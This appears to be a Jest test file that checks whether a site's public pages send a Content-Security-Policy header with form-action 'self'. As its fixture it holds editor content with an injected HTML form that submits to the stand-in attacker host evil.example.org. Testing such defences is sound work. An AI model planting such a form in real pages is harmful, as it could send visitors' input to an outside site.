// The public pages under attack: what a browser is told not to do with what editors have written.
import { expect, it } from '@jest/globals'
import { makePost } from '../support/posts.ts'
import { sharedServer } from '../support/shared-server.ts'

const server = await sharedServer()

it('have no form sent to another site', async () => {
  const { link } = await makePost(server.as.editor, { content: '<form action="https://evil.example.org/"><input name="x"></form>' })
  for (const url of [link, `${link}?embed=true`, `${server.baseUrl}/`, `${server.baseUrl}/events/`, `${server.baseUrl}/nothing`]) {
    const policy = (await fetch(url)).headers.get('Content-Security-Policy') ?? ''
    expect([url, policy.split('; ')]).toEqual([url, expect.arrayContaining(["form-action 'self'"])])
  }
})
